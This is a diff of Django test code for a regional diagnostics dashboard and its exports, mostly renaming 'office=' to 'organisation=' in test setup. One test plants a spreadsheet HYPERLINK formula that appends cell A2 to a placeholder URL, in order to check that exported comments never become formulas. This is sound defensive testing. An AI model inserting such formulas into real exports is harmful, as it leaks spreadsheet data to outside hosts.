@@ -37,7 +37,9 @@ def test_dashboard_counts_distributions_and_evolution(
     previous, current = campaigns
     bulk_region(previous, 4, score=40)
     bulk_region(current, 5, start=50)  # overall scores 0, 7, 14, 21, 28
-    Diagnostic.objects.create(office=office, campaign=current, questionnaire=current.questionnaire)
+    Diagnostic.objects.create(
+        organisation=office, campaign=current, questionnaire=current.questionnaire
+    )
     factories.make_office("Office sans diagnostic")
     dashboard = regional.dashboard(current)
     # the offices of the previous campaign have not started this one
@@ -67,7 +69,7 @@ def test_weakest_questions_rank_by_mean_share_of_points(campaigns, office, other
     )
     for each in (office, other_office):
         diagnostic = Diagnostic.objects.create(
-            office=each, campaign=current, questionnaire=current.questionnaire
+            organisation=each, campaign=current, questionnaire=current.questionnaire
         )
         # everything at the top but the fourth question, at the bottom
         factories.answer_all(diagnostic, pick=lambda choices: choices[-1])
@@ -107,7 +109,7 @@ def test_dashboard_figures_follow_every_submission(campaigns, office, director):
     assert regional.dashboard(current).overall.count == 5
     assert regional.dashboard(current).overall.count == 5  # from the cache
     diagnostic = Diagnostic.objects.create(
-        office=office, campaign=current, questionnaire=current.questionnaire
+        organisation=office, campaign=current, questionnaire=current.questionnaire
     )
     factories.answer_all(diagnostic, pick=lambda choices: choices[-1])
     assert regional.dashboard(current).counts["in_progress"] == 1  # read live
@@ -157,7 +159,7 @@ def test_answers_csv_has_one_row_per_office_and_question(
 ):
     _previous, current = campaigns
     diagnostic = Diagnostic.objects.create(
-        office=office, campaign=current, questionnaire=current.questionnaire
+        organisation=office, campaign=current, questionnaire=current.questionnaire
     )
     factories.answer_all(diagnostic, pick=lambda choices: choices[1])
     services.diagnostic_submit(diagnostic=diagnostic, user=director)
@@ -321,7 +323,7 @@ def test_exported_comments_never_become_formulas(
 ):
     _previous, current = campaigns
     diagnostic = Diagnostic.objects.create(
-        office=office, campaign=current, questionnaire=current.questionnaire
+        organisation=office, campaign=current, questionnaire=current.questionnaire
     )
     factories.answer_all(diagnostic)
     diagnostic.answers.update(comment='=HYPERLINK("https://example.invalid/?"&A2,"voir")')
@@ -340,7 +342,7 @@ def test_exported_and_shown_scores_agree(client, network_staff, campaigns, offic
     source, the admin, CSV and XLSX; the exact value has a column of its own."""
     _previous, current = campaigns
     diagnostic = Diagnostic.objects.create(
-        office=office, campaign=current, questionnaire=current.questionnaire
+        organisation=office, campaign=current, questionnaire=current.questionnaire
     )
     factories.answer_all(diagnostic, pick=lambda choices: choices[1])
     diagnostic = services.diagnostic_submit(diagnostic=diagnostic, user=director)
